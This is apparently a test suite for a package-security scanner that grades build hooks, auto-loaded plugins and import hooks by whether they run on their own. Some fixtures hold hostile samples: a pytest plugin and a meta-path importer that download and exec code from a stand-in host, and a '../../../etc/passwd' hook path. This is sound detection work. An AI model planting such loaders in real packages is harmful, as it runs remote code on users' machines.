"""Build hooks of other backends and auto-loaded plugins run by themselves (real archives).

hatchling, pdm-backend and poetry-core load files of the sdist while pip builds it, and
setuptools reads ``[tool.setuptools.cmdclass]``: code there runs at install time, like
``setup.py``. pytest loads ``pytest11`` plugins and setuptools calls its plugin entry points
in every build: code there runs without the user calling the package. The same code with
nothing that loads it (a hatch table in a setuptools project, a flake8 plugin, a wheel) keeps
the severity of code that runs when called.
"""

from __future__ import annotations

import pytest
from test_heuristics import scan

from shouldi.results import Severity
from shouldi.scanners.heuristics import HeuristicsScanner

TOP = "demo-1.0/"
H, M, L, INFO = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
#: process-spawn (a capability): medium where it runs by itself, info when only called
SPAWN = "import subprocess\n\ndef {name}(*args, **kwargs):\n    subprocess.run(['make', 'all'])\n"
CLASS_HOOK = ("import subprocess\n\nclass CustomHook:\n    def initialize(self, version, build_data):\n"
              "        subprocess.run(['make', 'all'])\n\n    def unrelated(self):\n"
              "        subprocess.run(['make', 'clean'])\n")
PROJECT = '[project]\nname = "demo"\nversion = "1.0"\n'


def spawns(result):
    return {(f.file.removeprefix(TOP), f.line, f.severity) for f in result.findings
            if f.rule == "process-spawn"}


def backend(name: str) -> str:
    return f'[build-system]\nrequires = ["x"]\nbuild-backend = "{name}"\n\n'


@pytest.mark.parametrize("table", [
    "[tool.hatch.build.hooks.custom]\n",
    "[tool.hatch.build.targets.wheel.hooks.custom]\n",
    "[tool.hatch.metadata.hooks.custom]\n",
])
def test_hatch_custom_hook_runs_at_build(tmp_path, table):
    files = {"pyproject.toml": backend("hatchling.build") + PROJECT + table,
             "hatch_build.py": CLASS_HOOK, "demo/__init__.py": ""}
    result = scan(tmp_path, files)
    assert spawns(result) == {("hatch_build.py", 5, M), ("hatch_build.py", 8, INFO)}
    (spawn,) = [f for f in result.findings if f.line == 5]
    assert "runs at install time: demo-1.0/hatch_build.py -> hatchling build hook CustomHook" in spawn.message
    assert [f.message for f in result.findings if f.rule == "build-hook"] == [
        "a build hook shipped in the sdist runs at install: hatchling loads demo-1.0/hatch_build.py "
        "while building the sdist"]


def test_hatch_hook_path_and_hatch_toml(tmp_path):
    files = {"pyproject.toml": backend("hatchling.build") + PROJECT,
             "hatch.toml": '[build.targets.sdist.hooks.custom]\npath = "tools/hooks.py"\n',
             "tools/hooks.py": CLASS_HOOK, "hatch_build.py": CLASS_HOOK, "demo/__init__.py": ""}
    assert spawns(scan(tmp_path, files)) == {
        ("tools/hooks.py", 5, M), ("tools/hooks.py", 8, INFO),
        ("hatch_build.py", 5, INFO), ("hatch_build.py", 8, INFO)}  # not named: not loaded


def test_pdm_build_file_is_loaded_by_pdm_only(tmp_path):
    hook = (SPAWN.format(name="pdm_build_initialize") + "\n\n" + SPAWN.format(name="helper").split("\n", 2)[2])
    pdm = {"pyproject.toml": backend("pdm.backend") + PROJECT, "pdm_build.py": hook,
           "src/demo/__init__.py": ""}
    assert spawns(scan(tmp_path / "pdm", pdm)) == {("pdm_build.py", 4, M), ("pdm_build.py", 8, INFO)}
    other = {**pdm, "pyproject.toml": backend("setuptools.build_meta") + PROJECT}
    assert spawns(scan(tmp_path / "setuptools", other)) == {("pdm_build.py", 4, INFO),
                                                           ("pdm_build.py", 8, INFO)}


@pytest.mark.parametrize("table", ['[tool.poetry.build]\nscript = "build.py"\n', '[tool.poetry]\nbuild = "build.py"\n'])
def test_poetry_build_script_runs_at_build(tmp_path, table):
    files = {"pyproject.toml": backend("poetry.core.masonry.api") + table,
             "build.py": "import os\nos.system('make')\n\n" + SPAWN.format(name="build").split("\n", 2)[2],
             "demo/__init__.py": ""}
    assert spawns(scan(tmp_path, files)) == {("build.py", 2, M), ("build.py", 5, M)}


def test_pyproject_cmdclass_commands_run_at_build(tmp_path):
    commands = ("import subprocess\nfrom setuptools.command.install import install\n\n"
                "class Install(install):\n    def run(self):\n        subprocess.run(['make'])\n\n"
                "class Upload(install):\n    def run(self):\n        subprocess.run(['twine'])\n")
    files = {"pyproject.toml": backend("setuptools.build_meta") + PROJECT
             + '[tool.setuptools.cmdclass]\ninstall = "demo_build.cmds.Install"\n'
               'upload = "demo_build.cmds.Upload"\n',
             "demo_build/__init__.py": "", "demo_build/cmds.py": commands, "demo/__init__.py": ""}
    result = scan(tmp_path, files)
    assert spawns(result) == {("demo_build/cmds.py", 6, M), ("demo_build/cmds.py", 10, INFO)}
    (spawn,) = [f for f in result.findings if f.line == 6]
    assert "[tool.setuptools.cmdclass] install = demo_build.cmds.Install" in spawn.message


def test_a_wheel_is_not_built(tmp_path):
    files = {"hatch_build.py": CLASS_HOOK, "pyproject.toml": backend("hatchling.build")
             + "[tool.hatch.build.hooks.custom]\n", "demo/__init__.py": ""}
    result = scan(tmp_path, files, wheel=True)
    assert not [f for f in result.findings if f.rule == "build-hook"]
    assert all(f.severity in (L, INFO) for f in result.findings if f.rule == "process-spawn")


def test_hook_path_outside_the_tree_is_ignored(tmp_path):
    files = {"pyproject.toml": backend("hatchling.build") + '[tool.hatch.build.hooks.custom]\n'
             'path = "../../../etc/passwd"\n', "demo/__init__.py": ""}
    assert not [f for f in scan(tmp_path, files).findings if f.rule == "build-hook"]


PLUGIN = ("import subprocess\n\ndef pytest_configure(config):\n    subprocess.run(['make'])\n\n"
          "def helper():\n    subprocess.run(['make', 'clean'])\n")


@pytest.mark.parametrize(("group", "target", "expected"), [
    ("pytest11", "demo.plugin", {("demo/plugin.py", 4, M), ("demo/plugin.py", 7, INFO)}),
    ("setuptools.finalize_distribution_options", "demo.plugin:helper",
     {("demo/plugin.py", 4, INFO), ("demo/plugin.py", 7, M)}),
    ("flake8.extension", "demo.plugin:helper", {("demo/plugin.py", 4, INFO), ("demo/plugin.py", 7, INFO)}),
])
def test_auto_loaded_plugins_run_by_themselves(tmp_path, group, target, expected):
    files = {"demo/__init__.py": "", "demo/plugin.py": PLUGIN,
             "demo-1.0.dist-info/entry_points.txt": f"[{group}]\ndemo = {target}\n"}
    result = scan(tmp_path, files, wheel=True)
    assert {(f.file, f.line, f.severity) for f in result.findings if f.rule == "process-spawn"} == expected
    if M in {s for *_, s in expected}:
        (found,) = [f for f in result.findings if f.severity is M]
        assert f"runs without this package being called: {group} entry point" in found.message


@pytest.mark.parametrize("declared", [
    {"pyproject.toml": PROJECT + '[project.entry-points.pytest11]\ndemo = "demo.plugin"\n'},
    {"setup.cfg": "[options.entry_points]\npytest11 =\n    demo = demo.plugin\n"},
    {"setup.py": "from setuptools import setup\nsetup(name='demo', entry_points={'pytest11': "
                 "['demo = demo.plugin']})\n"},
])
def test_sdist_declares_plugins_three_ways(tmp_path, declared):
    files = {"demo/__init__.py": "", "demo/plugin.py": PLUGIN, **declared}
    assert spawns(scan(tmp_path, files)) == {("demo/plugin.py", 4, M), ("demo/plugin.py", 7, INFO)}


def test_evidence_in_a_pytest_plugin_fails(tmp_path):
    plugin = ("import os, urllib.request\n\ndef pytest_sessionstart(session):\n"
              "    exec(urllib.request.urlopen('https://example.invalid/p').read())\n")
    files = {"demo/__init__.py": "", "demo/plugin.py": plugin,
             "demo-1.0.dist-info/entry_points.txt": "[pytest11]\ndemo = demo.plugin\n"}
    result = scan(tmp_path, files, wheel=True)
    assert max(f.severity.rank for f in result.findings) >= H.rank
    assert any(f.rule == "download-exec" and f.severity.rank >= H.rank for f in result.findings)


REMOTE_IMPORTER = """\
import importlib.abc, importlib.util, sys, urllib.request

class _Loader(importlib.abc.Loader):
    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(urllib.request.urlopen("https://example.invalid/" + module.__name__).read(), module.__dict__)

class _Finder:
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, _Loader()) if name == "core" else None

{register}
"""


@pytest.mark.parametrize(("register", "severity"), [
    ("sys.meta_path.append(_Finder())", Severity.CRITICAL),  # duck-typed finder, registered
    ("sys.meta_path.insert(0, _Finder())\nimport core", Severity.CRITICAL),
    ("def install():\n    sys.meta_path.append(_Finder())", Severity.LOW),  # only when called
])
def test_an_import_hook_registered_at_import_runs_its_loader(tmp_path, register, severity):
    files = {"demo/__init__.py": REMOTE_IMPORTER.format(register=register)}
    result = scan(tmp_path, files, wheel=True)
    (found,) = [f for f in result.findings if f.rule == "download-exec"]
    assert found.severity is severity, found.message


def test_a_local_importer_like_six_stays_information(tmp_path):
    six_like = ("import sys\n\nclass _Importer:\n    def __init__(self, name):\n        self.known = {}\n\n"
                "    def find_spec(self, fullname, path, target=None):\n"
                "        return None if fullname not in self.known else fullname\n\n"
                "    def load_module(self, fullname):\n        mod = __import__(self.known[fullname])\n"
                "        sys.modules[fullname] = mod\n        return mod\n\n"
                "sys.meta_path.append(_Importer(__name__))\n")
    result = scan(tmp_path, {"demo/__init__.py": six_like}, wheel=True)
    assert all(f.severity.rank <= L.rank for f in result.findings), [f.message for f in result.findings]
    assert any(f.rule == "dynamic-import" and "runs on import" in f.message for f in result.findings)


@pytest.mark.parametrize(("body", "rule", "severity"), [
    ("import subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd)\n\nREV = run(['make', 'x'])\n",
     "process-spawn", M),
    ("from urllib.request import urlopen\n\ndef fetch(url):\n    return urlopen(url).read()\n\n"
     "DATA = fetch('https://example.com/data.json')\n", "network", M),
    # only when called: the wrapper's call is in a function nothing calls
    ("import subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd)\n\n"
     "def later():\n    return run(['make', 'x'])\n", "process-spawn", INFO),
    # a constant read-only git query through a wrapper is still only version stamping
    ("import subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd)\n\n"
     "REV = run(['git', 'describe', '--tags'])\n", "vcs-query", L),
])
def test_a_capability_through_a_wrapper_is_said_where_the_wrapper_is_called(tmp_path, body, rule, severity):
    result = scan(tmp_path, {"demo/__init__.py": body}, wheel=True)
    (found,) = [f for f in result.findings if f.rule == rule]
    assert (found.severity, found.line) == (severity, 6 if severity is not INFO else 7), found.message
    assert "via " in found.message


CLI = "import subprocess\n\ndef main():\n    subprocess.run(['make'])\n"


@pytest.mark.parametrize(("project", "script", "jacked"), [
    ("demo", "git", True), ("demo", "aws", True), ("awscli", "aws", False), ("demo", "demo-tool", False),
])
def test_a_console_script_named_like_a_common_command_runs_by_itself(tmp_path, project, script, jacked):
    from scanner_trees import extract, make_wheel

    files = {"demo/__init__.py": "", "demo/cli.py": CLI,
             f"{project}-1.0.dist-info/entry_points.txt": f"[console_scripts]\n{script} = demo.cli:main\n"}
    tree = extract(make_wheel(tmp_path / "dist", project, "1.0", files), tmp_path / "tree")
    result = HeuristicsScanner().scan(tree)
    (spawn,) = [f for f in result.findings if f.rule == "process-spawn"]
    jacking = [f for f in result.findings if f.rule == "command-jacking"]
    if jacked:
        assert spawn.severity is M and f"runs whenever the user types {script!r}" in spawn.message
        assert [(f.severity, f.file) for f in jacking] == [(M, "demo/cli.py")]
        assert f"console script {script!r} = demo.cli:main" in jacking[0].message
    else:
        assert spawn.severity is INFO and not jacking


def test_a_wrapper_given_a_path_or_a_url_connects_only_for_a_url(tmp_path):
    """matplotlib's rc reader takes a path or a URL; at import it is given a path."""
    body = ("import os, urllib.request\n\ndef read(fname):\n    if fname.startswith('https://'):\n"
            "        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n"
            "RC = read(os.path.join(os.path.dirname(__file__), 'rc'))\n"
            "REMOTE = read('https://example.com/rc')\n")
    result = scan(tmp_path, {"demo/__init__.py": body}, wheel=True)
    assert [(f.line, f.severity) for f in result.findings if f.rule == "network"] == [(9, M)]
